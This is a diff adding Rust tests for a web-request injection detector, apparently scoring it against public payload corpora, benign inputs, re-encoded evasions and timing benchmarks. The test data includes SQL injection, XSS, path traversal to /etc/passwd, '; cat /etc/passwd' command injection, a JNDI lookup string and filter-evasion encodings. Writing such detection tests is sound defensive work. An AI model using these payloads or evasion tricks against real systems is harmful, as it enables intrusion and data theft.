@@ -1,0 +1,472 @@
+//! Corpus tests: public payload lists, the benign corpus, evasions, and costs.
+//!
+//! The data live in `tests/data/injection/` (see its README for sources and licences).
+//! Each payload is placed as a scanner would send it: percent-encoded (or, when the row
+//! already holds `%XX` escapes, as it is, with only spaces, `#`, `&` and non-ASCII
+//! bytes escaped) in the parameter a scanner uses for its family, after an ordinary
+//! parameter: `lang=en&id=…`.
+
+use super::*;
+use std::collections::BTreeMap;
+use std::fmt::Write as _;
+
+fn data_dir() -> std::path::PathBuf {
+    std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/data/injection")
+}
+
+fn family_named(s: &str) -> Family {
+    match s {
+        "sqli" => Family::Sqli,
+        "xss" => Family::Xss,
+        "cmdi" => Family::Cmdi,
+        "lfi" => Family::Lfi,
+        "ssti" => Family::Ssti,
+        "jndi" => Family::Jndi,
+        "ssrf" => Family::Ssrf,
+        "nosqli" => Family::Nosqli,
+        "crlf" => Family::Crlf,
+        _ => panic!("unknown family {s}"),
+    }
+}
+
+fn param_for(f: Family) -> &'static str {
+    match f {
+        Family::Sqli => "id",
+        Family::Xss => "q",
+        Family::Lfi => "file",
+        Family::Cmdi => "host",
+        Family::Ssti => "name",
+        Family::Ssrf => "url",
+        Family::Nosqli => "user",
+        Family::Crlf => "page",
+        Family::Jndi => "x",
+    }
+}
+
+fn has_escape(s: &[u8]) -> bool {
+    s.windows(3)
+        .any(|w| w[0] == b'%' && w[1].is_ascii_hexdigit() && w[2].is_ascii_hexdigit())
+}
+
+/// Percent-encodes a payload for a query: all but unreserved bytes, or (raw rows) only
+/// what cannot stand in a query.
+pub(super) fn encode(payload: &str) -> String {
+    let raw = has_escape(payload.as_bytes());
+    let mut out = String::with_capacity(payload.len() * 3);
+    for &b in payload.as_bytes() {
+        let keep = if raw {
+            b > b' ' && b < 0x7f && b != b'#' && b != b'&'
+        } else {
+            b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b'~')
+        };
+        if keep {
+            out.push(b as char);
+        } else {
+            let _ = write!(out, "%{b:02X}");
+        }
+    }
+    out
+}
+
+struct Row {
+    family: Family,
+    payload: String,
+    origin: String,
+}
+
+fn load(name: &str) -> Vec<Row> {
+    let text = std::fs::read_to_string(data_dir().join(name)).expect("corpus file");
+    text.lines()
+        .filter(|l| !l.starts_with('#') && !l.is_empty())
+        .map(|l| {
+            let first = l.find('\t').expect("family column");
+            let last = l.rfind('\t').expect("source column");
+            Row {
+                family: family_named(&l[..first]),
+                payload: l[first + 1..last].to_owned(),
+                origin: l[last + 1..].to_owned(),
+            }
+        })
+        .collect()
+}
+
+fn inspect_payload(f: Family, payload: &str) -> Option<Finding> {
+    inspect_query(&format!("lang=en&{}={}", param_for(f), encode(payload)))
+}
+
+/// Corpora still below the 95 % target (issue #14), with the floor they must not fall
+/// under: raise a floor when a fix lands, drop the row once the corpus reaches 95 %.
+const KNOWN_GAPS: &[(&str, f64, f64)] = &[
+    // The dotdotpwn and exotic-encoding samples: malformed encodings (`%c0%qf`,
+    // `%f8%80%80%80%af`, `.?`) that no mainstream server decodes to `/`.
+    ("patt-lfi-sampled.tsv", 81.0, 81.0),
+    // Rows that are probes rather than attacks (`'sqlvuln`, `@@variable`), LDAP filters
+    // filed as SQL, and MySQL oddities (`1or1=1`, `uni/**/on`).
+    ("fuzzdb-sqli.tsv", 90.0, 90.0),
+    // Expression-only fuzz rows (`( BINARY COS ( 1) ) --`), NUL-separated keywords,
+    // ODBC escapes; see the misses printed with INJECT_MISSES=path.
+    ("libinjection-sqli.tsv", 86.0, 86.0),
+    // `%0d%0a` alone or `0x0D0x0A` with no header after it.
+    ("fuzzdb-crlf.tsv", 85.0, 71.0),
+    // Redirector services and look-alike hosts (`r3dir.me`, `ⓔⓧⓐⓜⓟⓛⓔ.ⓒⓞⓜ`).
+    ("patt-ssrf.tsv", 84.0, 84.0),
+    // Template and LDAP rows filed as command injection are named by their class.
+    ("fuzzdb-cmdi.tsv", 95.0, 89.0),
+    ("patt-cmdi.tsv", 95.0, 90.0),
+    ("fuzzdb-xss.tsv", 94.0, 93.0),
+    // `'||'`-style JavaScript filed as NoSQL is named sqli.
+    ("patt-nosqli.tsv", 95.0, 84.0),
+];
+
+#[derive(Default)]
+struct Tally {
+    rows: usize,
+    named: usize,
+    right: usize,
+}
+
+#[test]
+fn public_corpora_are_named() {
+    let mut names: Vec<_> = std::fs::read_dir(data_dir())
+        .unwrap()
+        .filter_map(|e| e.ok()?.file_name().into_string().ok())
+        .filter(|n| n.ends_with(".tsv") && !n.contains("benign"))
+        .collect();
+    names.sort();
+    let mut report = String::new();
+    let mut failures = Vec::new();
+    let mut misses = String::new();
+    let _ = writeln!(
+        report,
+        "{:<28} {:>6} {:>8} {:>9}",
+        "corpus", "rows", "recall", "accuracy"
+    );
+    let mut by_origin: BTreeMap<String, Tally> = BTreeMap::new();
+    for name in &names {
+        let mut t = Tally::default();
+        for row in load(name) {
+            t.rows += 1;
+            let o = by_origin.entry(row.origin.clone()).or_default();
+            o.rows += 1;
+            let got = inspect_payload(row.family, &row.payload);
+            if got.is_some() {
+                t.named += 1;
+                o.named += 1;
+            }
+            if got.as_ref().map(|f| f.family) == Some(row.family) {
+                t.right += 1;
+                o.right += 1;
+            } else {
+                let _ = writeln!(
+                    misses,
+                    "{name}\t{}\t{:?}\t{}",
+                    row.family.as_str(),
+                    got.map(|f| f.family.as_str()),
+                    row.payload
+                );
+            }
+        }
+        let recall = t.named as f64 / t.rows as f64 * 100.0;
+        let acc = t.right as f64 / t.rows as f64 * 100.0;
+        let _ = writeln!(
+            report,
+            "{name:<28} {:>6} {recall:>7.1}% {acc:>8.1}%",
+            t.rows
+        );
+        let (min_recall, min_acc) = KNOWN_GAPS
+            .iter()
+            .find(|(n, ..)| n == name)
+            .map_or((95.0, 95.0), |&(_, r, a)| (r, a));
+        if recall < min_recall || acc < min_acc {
+            failures.push(name.clone());
+        }
+    }
+    let _ = writeln!(report, "\nper source file:");
+    for (origin, t) in &by_origin {
+        let _ = writeln!(
+            report,
+            "{:<70} {:>5} {:>6.1}% {:>6.1}%",
+            origin,
+            t.rows,
+            t.named as f64 / t.rows as f64 * 100.0,
+            t.right as f64 / t.rows as f64 * 100.0
+        );
+    }
+    println!("{report}");
+    if let Ok(path) = std::env::var("INJECT_MISSES") {
+        std::fs::write(path, &misses).unwrap();
+    }
+    assert!(
+        failures.is_empty(),
+        "below the floor: {failures:?}\n{report}"
+    );
+}
+
+#[test]
+fn benign_values_pass() {
+    let text = std::fs::read_to_string(data_dir().join("benign.tsv")).unwrap();
+    let mut flagged = Vec::new();
+    let mut n = 0;
+    for line in text
+        .lines()
+        .filter(|l| !l.starts_with('#') && !l.is_empty())
+    {
+        let mut cols = line.splitn(3, '\t');
+        let name = cols.next().unwrap();
+        let value = cols.next().unwrap_or("").replace("\\n", "\n");
+        let value = value.as_str();
+        n += 1;
+        // Sent the way a browser sends a form: percent-encoded, spaces as `+`.
+        let enc = encode(value).replace("%20", "+");
+        let q = format!("{}={}", encode(name), enc);
+        if let Some(f) = inspect_query(&q) {
+            flagged.push(format!("{} {name}={value}", f.family.as_str()));
+        }
+    }
+    println!("benign: {n} values, {} flagged", flagged.len());
+    assert!(n >= 500, "only {n} benign values");
+    assert!(flagged.is_empty(), "flagged:\n{}", flagged.join("\n"));
+}
+
+#[test]
+fn libinjection_false_positives_pass() {
+    // Inputs that libinjection once flagged by mistake (its data/false_positives.txt).
+    let text = std::fs::read_to_string(data_dir().join("libinjection-benign.tsv")).unwrap();
+    let mut flagged = Vec::new();
+    let mut n = 0;
+    for line in text
+        .lines()
+        .filter(|l| !l.starts_with('#') && !l.is_empty())
+    {
+        let value = line.split('\t').nth(1).unwrap_or("");
+        n += 1;
+        if let Some(f) = inspect_query(&format!("q={}", encode(value))) {
+            flagged.push(format!("{} {value}", f.family.as_str()));
+        }
+    }
+    println!(
+        "libinjection false positives: {n} values, {} flagged",
+        flagged.len()
+    );
+    // A hard list by design (another engine's mistakes): at most 2.5 % may be flagged.
+    assert!(
+        flagged.len() * 1000 <= n * 25,
+        "flagged:\n{}",
+        flagged.join("\n")
+    );
+}
+
+#[test]
+fn the_parameter_is_reported() {
+    let q = "a=1&b=x&id=1%27%20or%20%271%27%3D%271&c=%3Cb%3Ehi%3C/b%3E";
+    let f = inspect_query(q).unwrap();
+    assert_eq!(f.family, Family::Sqli);
+    assert_eq!(&q[f.param], "id");
+    // The more specific family wins across parameters; the first wins ties.
+    let q = "id=1%27%20or%201%3D1--&f=..%2F..%2Fetc%2Fpasswd&g=..%2f..%2fx";
+    let f = inspect_query(q).unwrap();
+    assert_eq!((f.family, &q[f.param.clone()]), (Family::Lfi, "f"));
+    let q = "id=1%27%20or%201%3D1--&q=%3Csvg%20onload%3Dalert(1)%3E";
+    let f = inspect_query(q).unwrap();
+    assert_eq!((f.family, &q[f.param.clone()]), (Family::Xss, "q"));
+    // Names: NoSQL operators and markup; a bare parameter gets every check.
+    let q = "user%5B%24ne%5D=1";
+    assert_eq!(inspect_query(q).unwrap().family, Family::Nosqli);
+    let f = inspect_query("x=1&..%2F..%2Fetc%2Fpasswd").unwrap();
+    assert_eq!((f.family, f.param.is_empty()), (Family::Lfi, true));
+    assert_eq!(inspect_value(b"1' or '1'='1"), Some(Family::Sqli));
+    assert_eq!(inspect_query("q=rust&page=2&sort=price"), None);
+}
+
+#[test]
+fn issue_14_misses() {
+    for (q, f) in [
+        ("id=1%20UNION%20ALL%20SELECT", Family::Sqli),
+        ("id=1'%20or%20'a'='a", Family::Sqli),
+        ("id=1%20or%201=1--", Family::Sqli),
+        ("id=1/**/or/**/1/**/=/**/1", Family::Sqli),
+        ("id=1%20having%201=1--", Family::Sqli),
+        ("id=1||UTL_HTTP.REQUEST", Family::Sqli),
+        (
+            "id=1;declare%20@s%20varchar(200)%20select%20@s%20=%200x73",
+            Family::Sqli,
+        ),
+        ("file=/etc/crontab", Family::Lfi),
+        ("file=/etc/ssh/sshd_config", Family::Lfi),
+        ("file=C:\\inetpub\\wwwroot\\global.asa", Family::Lfi),
+        (
+            "q=%3CDIV%20STYLE=%22width:%20expression(alert('XSS'))%22%3E",
+            Family::Xss,
+        ),
+        (
+            "q=%3CLINK%20REL=%22stylesheet%22%20HREF=%22http://x/xss.css%22%3E",
+            Family::Xss,
+        ),
+        (
+            "q=%3CMETA%20HTTP-EQUIV=%22Set-Cookie%22%20Content=%22a=b%22%3E",
+            Family::Xss,
+        ),
+        (
+            "q=%3CIMG%20SRC=%22jav%26%23x09;ascript:alert('XSS')%22%3E",
+            Family::Xss,
+        ),
+    ] {
+        assert_eq!(inspect_query(q).map(|x| x.family), Some(f), "{q}");
+    }
+}
+
+mod evasions {
+    use super::*;
+    use proptest::prelude::*;
+
+    /// Known payloads and their families (written for reqlog).
+    const SEEDS: &[(&str, Family)] = &[
+        ("1' or '1'='1", Family::Sqli),
+        ("1 union select null,version()--", Family::Sqli),
+        ("' and sleep(5)#", Family::Sqli),
+        ("../../../etc/passwd", Family::Lfi),
+        ("..\\..\\windows\\win.ini", Family::Lfi),
+        ("<script>alert(1)</script>", Family::Xss),
+        ("<img src=x onerror=alert(1)>", Family::Xss),
+        ("<a href=\"javascript:alert(1)\">x</a>", Family::Xss),
+        ("; cat /etc/passwd", Family::Cmdi),
+        ("{{7*7}}", Family::Ssti),
+        ("${jndi:ldap://x/a}", Family::Jndi),
+    ];
+
+    /// Re-encodes one byte the way an evasive scanner might.
+    fn reencode(b: u8, how: u8, sql: bool) -> String {
+        match (how, b) {
+            (_, b' ') if sql && how % 3 == 0 => "/**/".into(),
+            (_, b' ') if how % 3 == 1 => "+".into(),
+            (0, _) => format!("%{b:02X}"),
+            (1, _) => format!("%25{b:02X}"),
+            (2, _) => format!("%2525{b:02X}"),
+            (3, _) => format!("%u00{b:02x}"),
+            (4, b'/' | b'.' | b'<') => {
+                let v = u16::from(b);
+                format!("%{:02x}%{:02x}", 0xc0 | (v >> 6), 0x80 | (v & 0x3f))
+            }
+            (5, c) if c.is_ascii_alphabetic() => ((c ^ 0x20) as char).to_string(),
+            (6, _) => format!("%{b:02x}"),
+            _ if b.is_ascii_alphanumeric() => (b as char).to_string(),
+            _ => format!("%{b:02X}"),
+        }
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig { failure_persistence: None, cases: 512, ..ProptestConfig::default() })]
+
+        #[test]
+        fn reencodings_keep_their_family(
+            seed in 0..SEEDS.len(),
+            hows in proptest::collection::vec(0u8..8, 64),
+        ) {
+            let (payload, family) = SEEDS[seed];
+            let sql = family == Family::Sqli;
+            let enc: String = payload
+                .bytes()
+                .enumerate()
+                .map(|(i, b)| reencode(b, hows[i % hows.len()], sql))
+                .collect();
+            let q = format!("{}={enc}", param_for(family));
+            prop_assert_eq!(inspect_query(&q).map(|f| f.family), Some(family), "{}", q);
+        }
+
+        #[test]
+        fn entities_in_script_schemes(mask in proptest::collection::vec(0u8..6, 11)) {
+            // `javascript:` with each letter as itself, a decimal or hex reference (with
+            // or without `;` and leading zeros), or preceded by a tab reference.
+            let mut scheme = String::new();
+            for (i, c) in "javascript:".bytes().enumerate() {
+                match mask[i] {
+                    0 => scheme.push(c as char),
+                    1 => scheme += &format!("&#{c};"),
+                    2 => scheme += &format!("&#x{c:x};"),
+                    5 => scheme += &format!("&#X{c:X};"),
+                    3 => scheme += &format!("&#0000{c}"),
+                    _ => scheme += &format!("&#x09;{}", c as char),
+                }
+            }
+            let payload = format!("<a href=\"{scheme}alert(1)\">x</a>");
+            let q = format!("q={}", encode(&payload));
+            prop_assert_eq!(inspect_query(&q).map(|f| f.family), Some(Family::Xss), "{}", q);
+        }
+
+        #[test]
+        fn never_panics(s in any::<String>()) {
+            let _ = inspect_query(&s);
+            let _ = inspect_value(s.as_bytes());
+        }
+    }
+}
+
+/// Cost note (not run by default): `cargo test --release --all-features --lib
+/// probe::inject::tests::cost_note -- --ignored --nocapture`.
+#[test]
+#[ignore]
+fn cost_note() {
+    use std::time::Instant;
+    let benign = "utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024&q=rust+async+traits+tutorial&page=2&sort=relevance&lang=en-GB&session=3f2a9c1e-7b4d-4e8a-9f0c-2d1e5b6a7c8d&ref=%2Fcourses%2Frust%3Fx%3D1&filter=%7B%22status%22%3A%22active%22%7D&name=O%27Brien&tz=Europe%2FLondon&x=12";
+    let attack = "utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale_2024&q=rust+async+traits+tutorial&page=2&sort=relevance&lang=en-GB&session=3f2a9c1e-7b4d-4e8a-9f0c-2d1e5b6a7c8d&ref=%2Fcourses%2Frust&id=1%27%20UNION%20ALL%20SELECT%20NULL%2Cversion()--%20&x=12";
+    for (label, q) in [("benign", benign), ("attack", attack)] {
+        let n = 200_000;
+        let _ = inspect_query(q);
+        let t = Instant::now();
+        for _ in 0..n {
+            std::hint::black_box(inspect_query(std::hint::black_box(q)));
+        }
+        let ns = t.elapsed().as_nanos() as f64 / f64::from(n);
+        println!("{label}: {} bytes, {ns:.0} ns per query", q.len());
+    }
+}
+
+/// Where the time goes, per recogniser (not run by default; see `cost_note`).
+#[test]
+#[ignore]
+fn cost_breakdown() {
+    use std::time::Instant;
+    let vals: [&[u8]; 5] = [
+        b"rust async traits tutorial",
+        b"/courses/rust?x=1",
+        b"{\"status\":\"active\"}",
+        b"o'brien",
+        b"europe/london",
+    ];
+    let n = 200_000u32;
+    type Recogniser = (&'static str, fn(&[u8]) -> bool);
+    let fns: [Recogniser; 9] = [
+        ("jndi", template::is_jndi),
+        ("ssti", |v| template::ssti(v).is_some()),
+        ("crlf", |v| other::crlf(v).is_some()),
+        ("xss", html::is_xss),
+        ("cmdi", shell::is_cmdi),
+        ("lfi", path::is_lfi),
+        ("nosqli", other::is_nosqli),
+        ("sqli", sql::is_sqli),
+        ("ssrf", url::is_ssrf),
+    ];
+    for (name, f) in fns {
+        let t = Instant::now();
+        for _ in 0..n {
+            for v in vals {
+                std::hint::black_box(f(std::hint::black_box(v)));
+            }
+        }
+        println!(
+            "{name}: {:.0} ns for 5 values",
+            t.elapsed().as_nanos() as f64 / f64::from(n)
+        );
+    }
+    let (mut a, mut b) = (Vec::new(), Vec::new());
+    let t = Instant::now();
+    for _ in 0..n {
+        for v in vals {
+            decode::decode(std::hint::black_box(v), true, &mut a, &mut b);
+        }
+    }
+    println!(
+        "decode: {:.0} ns for 5 values",
+        t.elapsed().as_nanos() as f64 / f64::from(n)
+    );
+}
